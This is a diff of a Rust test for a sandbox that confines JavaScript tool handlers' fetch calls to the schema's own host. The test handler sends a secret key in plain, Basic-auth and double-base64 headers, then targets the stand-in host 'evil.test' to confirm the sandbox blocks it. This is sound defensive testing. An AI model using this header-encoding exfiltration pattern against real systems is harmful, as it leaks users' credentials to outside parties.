@@ -139,7 +139,8 @@ fn fetch_reaches_the_schemas_own_host_only() {
     let world = |url: &str| {
         let handlers = format!(
             "{{ tool: {{ executeRequest: async ( {{ struct, payload }} ) => {{ \
-             const r = await fetch( `{url}`, {{ headers: {{ A: payload.serverParams.DEMO_KEY }} }} ); \
+             const r = await fetch( `{url}`, {{ headers: {{ A: payload.serverParams.DEMO_KEY, \
+             B: 'Basic ' + btoa( 'u:' + payload.serverParams.DEMO_KEY ), C: btoa( btoa( payload.serverParams.DEMO_KEY ) ) }} }} ); \
              struct.data = [ r.status, await r.json() ]; return {{ struct }} }} }} }}"
         );
         Setting { handlers: &handlers, sandbox, grants: &["fetch"], ..Setting::default() }.world()
@@ -150,6 +151,7 @@ fn fetch_reaches_the_schemas_own_host_only() {
     assert_eq!(sent.len(), 1);
     assert!(sent[0].starts_with("GET https://api.example.test/y?k=s3+cr%2Ft%22%2Bkey"), "{sent:?}");
     assert!(sent[0].to_lowercase().contains("\na: s3 cr/t\"+key"), "{sent:?}");
+    assert!(sent[0].contains("b: Basic dTpzMyBjci90IitrZXk=\nc: Y3pNZ1kzSXZkQ0lyYTJWNQ=="), "{sent:?}");
     let elsewhere = world("https://evil.test/");
     let text = block_on(elsewhere.call("demo__tool", "{}"));
     assert!(text.starts_with("! ") && text.contains("its url is at https://evil.test"), "{text}");
